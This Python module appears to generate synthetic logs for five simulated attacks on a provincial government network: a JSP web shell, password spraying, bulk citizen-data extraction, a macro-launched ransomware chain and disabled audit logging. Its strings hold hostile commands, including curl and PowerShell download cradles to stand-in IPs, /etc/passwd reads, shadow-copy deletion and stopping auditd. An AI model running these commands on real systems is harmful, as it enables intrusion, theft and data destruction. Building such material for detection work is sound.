# ruff: noqa: S608 - the SQL here is only ever written to a log
"""The steps of the five attacks, as lines of the systems they touch. See ``attacks.py`` for what they are."""

from base64 import b64encode
from random import Random
from urllib.parse import quote

from model import Micros
from model.moment import MINUTE, SECOND
from province import database, edge, identity, lgsp, mail, portal, servers, windows
from province.line import Line, Scene
from province.people import Officer
from province.places import ADMIN_PC, HOSTS, NETBIOS

SHELL_IP = "198.51.100.233"
SPRAYER = "192.0.2.200"
PULLER = "198.51.100.241"
PULLED = lgsp.APPLICATIONS[1]
CUT_HOST = "srv-hoso01"
SPRAYED = range(0, 60)
"""Officers whose passwords are guessed; the last one's is found."""
VICTIM = 117
"""The officer who opens the macro."""

_SHELL = "/tep-dinh-kem/2026/11/giay_khai_sinh.pdf.jsp"
_COMMANDS = (
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "curl -o /tmp/.kworker http://198.51.100.233:8443/k",
    "ls -la /srv/dvc",
)


def webshell(scene: Scene, start: Micros) -> list[Line]:
    """A citizen's account uploads a JSP named like a birth certificate, runs commands through it and calls home."""
    rng, user = scene.rng, "099088666013"
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"
    name, dossier, at = "giấy_khai_sinh.pdf.jsp", portal.dossier_code(rng, start), start
    lines = [portal.access(at, SHELL_IP, f"GET {path}", 200, 9_100, agent) for path in ("/", "/dichvucong/thu-tuc/1.001193")]
    at += 40 * SECOND
    lines.append(identity.event(rng, at, "LOGIN", user, SHELL_IP, "dichvucong"))
    lines.append(portal.application(at + SECOND, "login", user, SHELL_IP, result="ok"))
    at += 75 * SECOND
    uri = f"/api/tep/tai-len?ten={quote(name)}"
    lines.append(portal.access(at, SHELL_IP, f"POST {uri}", 201, 412, agent))
    lines.append(
        portal.application(
            at + 50_000, "upload", user, SHELL_IP, dossier=dossier, file=name, size=5_120, mime="application/pdf", result="ok"
        )
    )
    message = "Restricted File Upload: Java server page found in file name"
    lines.append(portal.modsecurity(rng, at + 60_000, SHELL_IP, uri, 201, agent, message, "944140", method="POST"))
    for command in _COMMANDS:
        at += rng.randrange(20, 70) * SECOND
        lines.append(portal.access(at, SHELL_IP, f"GET {_SHELL}?cmd={quote(command)}", 200, rng.randrange(60, 3_000), agent))
        lines += servers.execve(rng, at + 30_000, "dvc-app01", "tomcat", ("/bin/sh", "-c", command), "/opt/tomcat")
        words = command.split()
        lines += servers.execve(rng, at + 60_000, "dvc-app01", "tomcat", (f"/usr/bin/{words[0]}", *words[1:]), "/opt/tomcat")
    for beat in range(6):
        later = at + (30 + 60 * beat) * SECOND
        lines.append(
            edge.traffic(rng, later, HOSTS["dvc-app01"], SHELL_IP, 4444, "tcp/4444", "accept", sent=9_000_000 if beat == 5 else 0)
        )
    return lines


def spraying(scene: Scene, start: Micros) -> list[Line]:
    """Two passwords against sixty accounts, slowly enough for no lock; one account opens."""
    rng, lines, at = scene.rng, [], start
    victims = [scene.town.officers[n] for n in SPRAYED]
    for who in victims[:-1]:
        at += rng.randrange(4, 9) * SECOND
        lines.append(identity.event(rng, at, "LOGIN_ERROR", who.account, SPRAYER, "qlvb", "invalid_user_credentials"))
        if rng.random() < 0.6:
            lines.append(mail.auth_failed(rng, at + 2 * SECOND, who.mail, SPRAYER))
    found = victims[-1]
    at += 50 * SECOND
    lines.append(identity.event(rng, at, "LOGIN", found.account, SPRAYER, "qlvb"))
    lines.append(identity.event(rng, at + 400_000, "CODE_TO_TOKEN", found.account, SPRAYER, "qlvb"))
    lines.append(mail.login(rng, at + 90 * SECOND, found.mail, SPRAYER))
    return lines


def bulk_pull(scene: Scene, start: Micros) -> list[Line]:
    """The civil-status application's token turns up at an address outside and turns page after page of citizens."""
    rng, at = scene.rng, start
    who = f"{PULLED.owner}@dancu {HOSTS['lgsp-gw01']}"
    lines = [lgsp.metric(rng, at, PULLED, PULLER, 200, 900, 1)]
    for page in range(60):
        at += rng.randrange(5, 12) * SECOND
        path = f"{PULLED.context}/congdan?trang={page}&co=2000"
        size = rng.randrange(2_000_000, 5_000_000)
        lines.append(lgsp.access(at, PULLER, f"GET {path}", 200, size))
        lines.append(lgsp.metric(rng, at, PULLED, PULLER, 200, size, 2_000, resource="/congdan"))
        statement = f"select * from public.cong_dan order by ma limit 2000 offset {page * 2000}"
        lines.append(database.audit(at + 100_000, 7_331, who, "READ", "SELECT", "public.cong_dan", statement, 2_000))
    return lines


def ransomware(scene: Scene, start: Micros) -> list[Line]:
    """A macro, PowerShell, shadow copies, then the file server over ADMIN$."""
    rng, who = scene.rng, scene.town.officers[VICTIM]
    return _on_the_pc(rng, start, who) + _on_the_server(rng, start + 6 * MINUTE, who)


_WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_CMD = r"C:\Windows\System32\cmd.exe"
_VSS = r"C:\Windows\System32\vssadmin.exe"
_WIPE = "vssadmin.exe delete shadows /all /quiet"


def _on_the_pc(rng: Random, at: Micros, who: Officer) -> list[Line]:
    document = rf"C:\Users\{who.account}\Downloads\Thông báo tăng lương 2027.docm"
    script = b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.250/a')".encode("utf-16-le")).decode()
    local = [f"D:\\Tài liệu\\{paper} {n}.docx.vonglock" for n, paper in enumerate(windows.PAPERS * 4)]
    lines = [
        windows.process(rng, at, who.pc, who.account, _WORD, f'"{_WORD}" /n "{document}"', r"C:\Windows\explorer.exe"),
        windows.process(
            rng, at + 9 * SECOND, who.pc, who.account, _POWERSHELL, f"powershell.exe -nop -w hidden -enc {script}", _WORD
        ),
        windows.process(rng, at + 70 * SECOND, who.pc, who.account, _VSS, _WIPE, _POWERSHELL),
        windows.process(rng, at + 75 * SECOND, who.pc, who.account, _CMD, r"cmd.exe /c net use \\srv-fs01\ADMIN$", _POWERSHELL),
    ]
    return lines + [
        windows.file_created(rng, at + 90 * SECOND + n * 400_000, who.pc, who.account, _POWERSHELL, path)
        for n, path in enumerate(local)
    ]


def _on_the_server(rng: Random, at: Micros, who: Officer) -> list[Line]:
    server, psexec = "srv-fs01", r"C:\Windows\PSEXESVC.exe"
    shared: dict[str, object] = {
        "SubjectUserName": who.account,
        "SubjectDomainName": NETBIOS,
        "SubjectLogonId": "0x51c9a",
        "ObjectType": "File",
        "IpAddress": who.ip,
        "IpPort": "50123",
        "ShareName": "\\\\*\\ADMIN$",
        "ShareLocalPath": "\\??\\C:\\Windows",
        "RelativeTargetName": "PSEXESVC.exe",
        "AccessMask": "0x2",
    }
    installed: dict[str, object] = {
        "ServiceName": "PSEXESVC",
        "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    }
    lines = [
        windows.logon(rng, at, server, who.account, who.ip),
        windows.record(at + SECOND, server, windows.SECURITY, 5145, shared),
        windows.record(at + 2 * SECOND, server, windows.SYSTEM, 7045, installed),
        windows.process(rng, at + 5 * SECOND, server, who.account, _CMD, "cmd.exe /c C:\\Windows\\Temp\\khoa.exe", psexec),
        windows.process(rng, at + 9 * SECOND, server, who.account, _VSS, _WIPE, _CMD),
    ]
    for n in range(160):
        path = f"E:\\Chung\\{who.office.upper()}\\Hồ sơ {n:04d}.xlsx.vonglock"
        lines.append(
            windows.file_created(rng, at + 12 * SECOND + n * 300_000, server, who.account, r"C:\Windows\Temp\khoa.exe", path)
        )
    note = "E:\\Chung\\HUONG_DAN_GIAI_MA.txt"
    lines.append(windows.file_created(rng, at + 65 * SECOND, server, who.account, r"C:\Windows\Temp\khoa.exe", note))
    return lines


def cut_source(scene: Scene, start: Micros) -> list[Line]:
    """An administrator's stolen key opens a server; auditd is stopped, then rsyslog; after that there is silence."""
    rng, user = scene.rng, "lam.qt"
    lines = servers.ssh_accepted(rng, start, CUT_HOST, user, ADMIN_PC)
    lines += servers.sudo(start + 4 * MINUTE, CUT_HOST, user, "/usr/bin/systemctl stop auditd")
    lines += servers.execve(rng, start + 4 * MINUTE + 9_000, CUT_HOST, "root", ("/usr/bin/systemctl", "stop", "auditd"))
    lines += servers.sudo(start + 9 * MINUTE, CUT_HOST, user, "/usr/bin/systemctl stop rsyslog.socket rsyslog")
    return lines
